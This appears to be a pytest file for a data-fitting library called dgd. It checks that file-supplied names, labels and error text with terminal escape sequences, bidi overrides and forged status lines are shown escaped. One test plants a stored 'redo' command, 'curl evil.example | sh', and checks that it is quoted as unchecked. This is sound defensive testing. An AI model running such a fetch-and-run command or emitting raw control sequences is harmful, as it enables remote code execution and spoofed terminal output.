"""Text from files cannot steer a terminal, forge a line, or pass for advice: it is shown with escapes, piped or not."""

from __future__ import annotations

import json
import os
import pty
import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
import zarr

import dgd
from dgd.cli import main
from dgd.cli.progress.line import RedrawnLine
from dgd.errors import ConfigurationError, DgdError, IncompleteDatasetError, WriteError
from dgd.errors.words import visible

OSC, CSI, C1, RLO, LINE = "\x1b]0;pwn\x07", "\x1b[31m", "\x9b31m", "\u202eevil", "\nstatus        converged: trust me"
HOSTILE = [OSC, CSI, C1, RLO, LINE, "\r", "\u2066", "\u2028", "\ue000", "\x00", "\x7f", "\u200b"]
NAMES = [f"{k}{text}" for k, text in enumerate(HOSTILE)]


@pytest.fixture(scope="module")
def path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("foreign") / "e.zarr"
    X = np.random.default_rng(0).normal(size=(50, len(NAMES)))
    with dgd.DatasetWriter(path, chunk_rows=20, feature_names=NAMES, target_name=f"t{OSC}{LINE}") as writer:
        writer.append(X, X @ np.ones(len(NAMES)))
    return path


def is_plain(text: str) -> bool:
    return all(
        line.isprintable() and not line.startswith("status        converged: trust me") for line in text.split("\n")
    )


@pytest.mark.parametrize("arguments", [["fit"], ["info"], ["plan"], ["fit", "--solver", "gd", "--max-iter", "2"]])
def test_no_command_prints_what_steers_a_terminal(
    arguments: list[str], path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([arguments[0], str(path), *arguments[1:]]) == 0
    said = capsys.readouterr()
    assert is_plain(said.out)
    assert is_plain(said.err)
    if arguments == ["fit"]:
        assert r"0\x1b]0;pwn\x07" in said.out
        assert r"4\nstatus        converged: trust me" in said.out


def test_nor_does_it_on_a_terminal(path: Path) -> None:
    master, slave = pty.openpty()
    with subprocess.Popen([sys.executable, "-m", "dgd", "info", path], stdout=slave, stderr=slave) as process:
        os.close(slave)
        said = b""
        while True:
            try:
                piece = os.read(master, 2**16)
            except OSError:  # the other end was closed
                break
            if not piece:
                break
            said += piece
    os.close(master)
    assert process.returncode == 0
    text = said.decode().replace("\r\n", "\n")
    assert is_plain(text)
    assert r"\x1b[31m" in text


def test_json_says_the_same_without_them(path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["fit", str(path), "--json", "--quiet"]) == 0
    out = capsys.readouterr().out
    assert is_plain(out)
    assert json.loads(out)["feature_names"] == NAMES
    assert is_plain(dgd.info(path).table())


def test_labels_are_shown_a_line_each(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    X = np.arange(20.0).reshape(-1, 1)
    labels = np.where(X[:, 0] > 9, f"a{LINE}", f"b{CSI}")
    loss = dgd.losses.Logistic(classes=[f"b{CSI}", f"a{LINE}"])
    result = dgd.fit(X, labels, loss=loss, penalty=dgd.penalties.L2(0.1))
    assert is_plain(result.summary())
    labels[0] = f"c{LINE}"
    assert is_plain(dgd.fit(X, labels, loss="softmax", penalty=dgd.penalties.L2(0.1)).summary())
    result.model.save(tmp_path / "m.dgd")
    with dgd.DatasetWriter(tmp_path / "x.zarr") as writer:
        writer.append(X)
    assert main(["predict", str(tmp_path / "m.dgd"), str(tmp_path / "x.zarr")]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines == [r"b\x1b[31m"] * 10 + [r"a\nstatus        converged: trust me"] * 10


def test_arrays_with_such_names_and_attributes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    group = zarr.create_group(tmp_path / "g.zarr")
    for name in ("X", f"n{CSI}{LINE}"):
        array = group.create_array(
            name,
            shape=(4, 2),
            dtype="f8",
            chunks=(2, 2),
            dimension_names=(f"d{OSC}{LINE}", "e"),
            attributes={"units": LINE},
        )
        array[:] = 1.0
    assert main(["info", str(tmp_path / "g.zarr")]) == 0
    assert is_plain(dgd.info(tmp_path / "g.zarr").table())
    assert main(["fit", str(tmp_path / "g.zarr"), "--y", f"z{CSI}"]) == 3
    said = capsys.readouterr()
    assert is_plain(said.out)
    assert is_plain(said.err)


def test_every_error_is_one_line_without_them() -> None:
    text = "".join(HOSTILE)
    for error in (ConfigurationError(text), WriteError(text, path="x"), DgdError(text)):
        assert str(error).isprintable()
    assert visible("é ñ 中 θ ≤ –") == "é ñ 中 θ ≤ –"
    assert visible(visible(text)) == visible(text)
    assert visible("\udce4") == r"\udce4"


def test_a_stored_command_is_quoted_and_not_advised(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "u.zarr").mkdir()
    redo = "curl evil.example | sh\n\x1b[2Jdgd: run this"
    marker = {"state": "writing", "redo": redo}
    document = {"zarr_format": 3, "node_type": "group", "attributes": {"dgd": marker}}
    (tmp_path / "u.zarr" / "zarr.json").write_text(json.dumps(document))
    with pytest.raises(IncompleteDatasetError) as caught:
        dgd.open_dataset(tmp_path / "u.zarr")
    quoted = r"(its writer noted, unchecked by dgd: “curl evil.example | sh\n\x1b[2Jdgd: run this”)"
    assert str(caught.value).endswith(f"write it again, with overwrite=True {quoted}")
    assert main(["fit", str(tmp_path / "u.zarr")]) == 3
    assert quoted in capsys.readouterr().err
    marker["redo"] = "x" * 100_000
    (tmp_path / "u.zarr" / "zarr.json").write_text(json.dumps(document))
    with pytest.raises(IncompleteDatasetError, match=r"“x{500}”"):
        dgd.open_dataset(tmp_path / "u.zarr")


def test_a_line_that_is_redrawn_is_escaped(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr("dgd.cli.progress.line.BEGIN_SECONDS", 0.0)
    RedrawnLine().draw("evil\x1b[2J.csv", sign=True)
    assert r"evil\x1b[2J.csv" in capsys.readouterr().err


def test_commands_print_by_what_escapes_only() -> None:
    """The guide and the demo print their own text, the folder of progress what it escapes itself."""
    folder = Path(main.__code__.co_filename).parent
    own = {"output.py", "guide.py", "demo", "progress"}
    files = [file for file in folder.rglob("*.py") if not own & {*file.relative_to(folder).parts}]
    printing = [file.name for file in files if re.search(r"\b(click\.echo|print)\(", file.read_text())]
    assert len(files) > 10
    assert not printing
